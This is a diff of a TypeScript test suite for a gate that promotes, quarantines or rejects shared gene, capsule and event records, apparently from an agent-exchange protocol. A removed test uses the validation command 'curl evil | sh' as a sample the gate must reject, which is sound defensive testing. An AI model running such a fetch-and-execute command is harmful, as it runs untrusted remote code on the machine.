@@ -1,4 +1,4 @@
-import { computeAssetId, verifyAssetId } from '@evomap/gep-sdk';
+import { computeAssetId } from '@evomap/gep-sdk';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { GateError } from '../../src/ground/error.ts';
@@ -40,12 +40,8 @@ async function decideOn(
 }
 
 /** Each candidate with the rules that reject or quarantine it; empty if it is promoted. */
-function outcome({
-  promoted,
-  quarantined,
-  rejected,
-  skipped,
-}: Promotion): Record<string, readonly string[]> {
+function outcome(decided: Promotion): Record<string, readonly string[]> {
+  const { promoted, quarantined, rejected, skipped } = decided;
   return Object.fromEntries([
     ...promoted.map(({ id }) => [id, []] as const),
     ...[...rejected, ...quarantined].map(
@@ -130,33 +126,6 @@ describe('promote', () => {
     return { ...hashed, outcome: outcomeWithNotes };
   }
 
-  it('decides about each candidate of a mixed file', async () => {
-    const mixed = JSON.stringify({
-      version: 1,
-      genes: [gene('gene_good'), gene('gene_bad', { validation: ['curl evil | sh'] })],
-      capsules: [capsule('capsule_good'), capsule('capsule_lonely')],
-      events: [
-        event('evt_1'),
-        event('evt_2', { parent: 'evt_1' }),
-        event('evt_4', { parent: '3' }),
-      ],
-    });
-    const decided = await decideOn(mixed, { events: file(jsonl(successes('capsule_good'))) });
-    expect(outcome(decided)).toEqual({
-      gene_good: [],
-      gene_bad: expect.arrayContaining(['unsafe-validation-command', 'shell-operator']),
-      capsule_good: [],
-      capsule_lonely: ['capsule-streak'],
-      evt_1: [],
-      evt_2: [],
-      evt_4: ['event-parent-missing'],
-    });
-    for (const { reasons } of decided.rejected) {
-      for (const { message, remedy } of reasons)
-        expect(`${message} ${remedy}`).not.toMatch('undefined');
-    }
-  });
-
   it('does not accept a rejected event as a parent', async () => {
     const events = [event('evt_1', { intent: 'none' }), event('evt_2', { parent: 'evt_1' })];
     expect(outcome(await decideOn(jsonl(events)))).toMatchObject({
@@ -164,20 +133,12 @@ describe('promote', () => {
     });
   });
 
+  const payload = { assets: [gene('x')] };
   it.each<[string, string | Buffer]>([
     ['an object', JSON.stringify(gene('x'))],
     ['an array', JSON.stringify([gene('x')])],
     ['a store', JSON.stringify({ version: '1.0.0', genes: [gene('x')] })],
-    ['JSONL', jsonl([gene('x')])],
-    [
-      'a message',
-      JSON.stringify({
-        protocol: 'gep-a2a',
-        protocol_version: '1.0.0',
-        message_type: 'publish',
-        payload: { assets: [gene('x')] },
-      }),
-    ],
+    ['a message', JSON.stringify({ protocol: 'gep-a2a', message_type: 'publish', payload })],
     ['an archive', tarball(gepx({ 'genes/genes.json': JSON.stringify({ genes: [gene('x')] }) }))],
   ])('reads candidates from %s', async (_, content) => {
     expect(outcome(await decideOn(content))).toEqual({ x: [] });
@@ -236,20 +197,6 @@ describe('promote', () => {
     expect(outcome(await offer(other))).toEqual({ gene_own: ['id-unusable'] });
   });
 
-  it('reduces the confidence of a Capsule', async () => {
-    const received = capsule('x');
-    const { promoted } = await decideOn(jsonl([received]), { events: file(jsonl(successes('x'))) });
-    const [lowered] = promoted;
-    expect(lowered).toMatchObject({
-      confidence: 0.9 * 0.6,
-      a2a: { status: 'promoted', confidence_factor: 0.6, received_asset_id: received.asset_id },
-    });
-    expect(verifyAssetId(lowered)).toBe(true);
-    expect(
-      outcome(await decideOn(jsonl([lowered as object]), { events: file(jsonl(successes('x'))) })),
-    ).toEqual({ x: [] });
-  });
-
   it('counts successes in the log of the repository, not in the candidates', async () => {
     const candidates = jsonl([...successes('x'), capsule('x')]);
     expect(outcome(await decideOn(candidates))).toMatchObject({ x: ['capsule-streak'] });
@@ -275,19 +222,6 @@ describe('promote', () => {
     });
   });
 
-  it('requires the report of a gate if the policy does', async () => {
-    const candidates = jsonl([gene('gene_a'), gene('gene_b')]);
-    const good = report(gene('gene_a'), { policy_digest: POLICY.digest });
-    const passed = { report: file(JSON.stringify(good)) };
-    const decided = await decideOn(candidates, passed);
-    expect(outcome(decided)).toEqual({ gene_a: [], gene_b: [] });
-    expect(decided.reports).toEqual([good]);
-    expect(outcome(await decideOn(candidates, { ...passed, policy: LOADED }))).toEqual({
-      gene_a: ['evidence-too-low'],
-      gene_b: ['evidence-missing'],
-    });
-  });
-
   it('uses the thresholds and `fail_on` of the policy', async () => {
     const a2a = { ...POLICY.policy.a2a, min_score: 0.9, min_success_streak: 3 };
     const stricter = { ...POLICY, policy: { ...POLICY.policy, a2a } };
@@ -295,9 +229,8 @@ describe('promote', () => {
     const decided = await decideOn(jsonl([capsule('x')]), { policy: stricter, events });
     expect(outcome(decided)).toEqual({ x: ['capsule-not-eligible', 'capsule-streak'] });
     const warning = { ...POLICY, policy: { ...POLICY.policy, fail_on: 'warning' as const } };
-    const doubled = jsonl([
-      gene('x', { validation: ['node scripts/check.js', 'node scripts/check.js'] }),
-    ]);
+    const twice = ['node scripts/check.js', 'node scripts/check.js'];
+    const doubled = jsonl([gene('x', { validation: twice })]);
     expect(outcome(await decideOn(doubled))).toEqual({ x: [] });
     expect(outcome(await decideOn(doubled, { policy: warning }))).toEqual({
       x: ['validation-redundant'],
